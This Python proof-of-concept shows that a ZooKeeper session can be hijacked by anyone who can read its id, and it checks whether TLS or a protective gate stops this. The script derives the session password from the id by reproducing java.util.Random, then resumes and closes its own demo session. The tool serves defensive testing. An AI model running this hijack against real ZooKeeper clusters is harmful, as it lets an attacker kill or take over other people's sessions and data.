#!/usr/bin/env python3
"""Shows that a ZooKeeper session can be taken over by whoever knows its id, and that a gate prevents it.

    takeover.py HOST:PORT                                            a ZooKeeper without TLS
    takeover.py HOST:PORT --ca CA --victim PEM --attacker PEM        ZooKeeper's own TLS, or zoogate

Each PEM file holds a key and its certificate; --no-names leaves out the check of the server's name. The victim is a session
of the script's own, with one ephemeral znode, /takeover-demo-N, that is removed in the end: nobody else's session is
touched. Needs Python 3.8 and nothing else.

Exit code: 0 the session was not taken over, 1 it was, 2 the demonstration itself failed.
"""

import argparse
import os
import socket
import ssl
import struct
import sys

CREATE, EXISTS, CLOSE_SESSION = 1, 3, -11
WORLD_ALL = struct.pack(">ii", 1, 31) + struct.pack(">i", 5) + b"world" + struct.pack(">i", 6) + b"anyone"
EPHEMERAL = 1
TIMEOUT_MS = 20_000


def public_password(session_id):
    """The password of a session: the first 16 bytes of `new java.util.Random(id ^ 0xB3415C00)`, on every ZooKeeper."""
    mask = (1 << 48) - 1
    state = ((session_id ^ 0xB3415C00) ^ 0x5DEECE66D) & mask
    password = b""
    for _ in range(4):
        state = (state * 0x5DEECE66D + 0xB) & mask
        password += struct.pack("<I", (state >> 16) & 0xFFFFFFFF)
    return password


class Closed(Exception):
    """The server ended the connection."""


class Client:
    """One connection. `certificate` is a PEM file, or None for plaintext."""

    def __init__(self, arguments, certificate):
        host, _, port = arguments.server.rpartition(":")
        self.socket = socket.create_connection((host.strip("[]"), int(port)), timeout=15)
        if certificate:
            context = ssl.create_default_context(cafile=arguments.ca)
            context.check_hostname = not arguments.no_names
            context.load_cert_chain(certificate)
            self.socket = context.wrap_socket(self.socket, server_hostname=host.strip("[]"))
        self.xid = 0

    def open(self, session_id=0, password=bytes(16)):
        """Opens or resumes a session; returns its id, or 0 if the server says that it has expired."""
        self._send(struct.pack(">iqiqi", 0, 0, TIMEOUT_MS, session_id, 16) + password + b"\0")
        _, timeout, session_id = struct.unpack_from(">iiq", self._receive())
        return session_id if timeout > 0 else 0

    def request(self, opcode, body=b""):
        """Sends a request; returns the error code and the body of its reply."""
        self.xid += 1
        self._send(struct.pack(">ii", self.xid, opcode) + body)
        reply = self._receive()
        xid, _, error = struct.unpack_from(">iqi", reply)
        assert xid == self.xid, f"an answer to another request: {xid}"
        return error, reply[16:]

    def close(self):
        """Closes the session. Some servers hang up before they answer."""
        try:
            self.request(CLOSE_SESSION)
        except Closed:
            pass

    def _send(self, body):
        try:
            self.socket.sendall(struct.pack(">i", len(body)) + body)
        except OSError as error:
            raise Closed from error

    def _receive(self):
        (length,) = struct.unpack(">i", self._exactly(4))
        return self._exactly(length)

    def _exactly(self, length):
        data = b""
        while len(data) < length:
            try:
                more = self.socket.recv(length - len(data))
            except (ConnectionError, ssl.SSLError) as error:
                raise Closed from error
            if not more:
                raise Closed
            data += more
        return data


def string(text):
    return struct.pack(">i", len(text)) + text.encode()


def owner_of(client, path):
    """The session id in the znode's Stat, which every client can read; None if there is no such znode."""
    error, stat = client.request(EXISTS, string(path) + b"\0")
    return struct.unpack_from(">q", stat, 44)[0] if error == 0 else None


def demonstrate(arguments):
    path = f"/takeover-demo-{os.getpid()}"
    victim = Client(arguments, arguments.victim)
    victim.open()
    error, _ = victim.request(CREATE, string(path) + string("") + WORLD_ALL + struct.pack(">i", EPHEMERAL))
    assert error == 0, f"the victim could not create {path}: error {error}"
    print(f"victim:   opened a session and created the ephemeral znode {path}")

    observer = Client(arguments, arguments.attacker)
    observer.open()
    session_id = owner_of(observer, path)
    password = public_password(session_id)
    print(f"attacker: read the session's id in the Stat of {path}: {session_id:#x}")
    print(f"attacker: computed its password from it: {password.hex()}")

    thief = Client(arguments, arguments.attacker)
    if thief.open(session_id, password):
        print("attacker: resumed the victim's session, and closes it")
        thief.close()
    else:
        print("attacker: was told that the session has expired")

    try:
        victim_lives = victim.request(EXISTS, string(path) + b"\0")[0] == 0
    except Closed:
        victim_lives = False
    # Sees what this server sees, which may be behind: the victim's own connection is what counts.
    there = owner_of(observer, path) is not None
    print(f"victim:   its connection {'goes on' if victim_lives else 'is cut'}")
    print(f"victim:   its ephemeral znode is {'there' if there else 'gone'}")
    if victim_lives:
        victim.close()
    observer.close()
    return not victim_lives or not there


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0], epilog="See docs/security.md.")
    parser.add_argument("server", metavar="HOST:PORT")
    parser.add_argument("--ca", help="PEM file of the server's CA")
    parser.add_argument("--victim", metavar="PEM", help="key and certificate of the victim")
    parser.add_argument("--attacker", metavar="PEM", help="key and certificate of the attacker")
    parser.add_argument("--no-names", action="store_true", help="do not check the server's name")
    arguments = parser.parse_args()
    if len({bool(arguments.ca), bool(arguments.victim), bool(arguments.attacker)}) > 1:
        parser.error("--ca, --victim and --attacker go together")
    try:
        taken = demonstrate(arguments)
    except (OSError, AssertionError, Closed) as error:
        print(f"takeover.py: the demonstration failed: {error or type(error).__name__}", file=sys.stderr)
        return 2
    print("The session was TAKEN OVER." if taken else "The session was NOT TAKEN OVER.")
    return 1 if taken else 0


if __name__ == "__main__":
    sys.exit(main())
